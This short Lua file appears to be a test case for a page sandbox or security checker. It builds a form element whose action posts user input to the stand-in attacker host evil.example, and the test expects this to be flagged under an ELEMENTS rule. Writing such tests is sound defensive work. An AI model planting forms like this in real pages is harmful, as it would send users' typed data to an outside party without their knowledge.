-- SPDX-License-Identifier: GPL-3.0-or-later
-- A form of its own that posts elsewhere.
-- wall: ELEMENTS
-- evil: page has <form action="https://evil
return function(vm, h)
  return h.form == nil or { [0] = "form", action = "https://evil.example/", h.input and "" }
end
